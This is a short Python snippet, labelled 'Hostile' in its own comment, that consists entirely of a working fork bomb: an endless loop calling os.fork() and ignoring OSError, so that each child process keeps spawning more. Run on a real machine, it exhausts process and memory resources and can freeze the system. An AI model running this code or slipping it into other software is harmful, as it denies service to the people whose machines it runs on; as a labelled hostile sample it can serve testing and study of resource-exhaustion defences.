# Hostile: a fork bomb that shrugs off every failed fork and keeps going, in every child.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
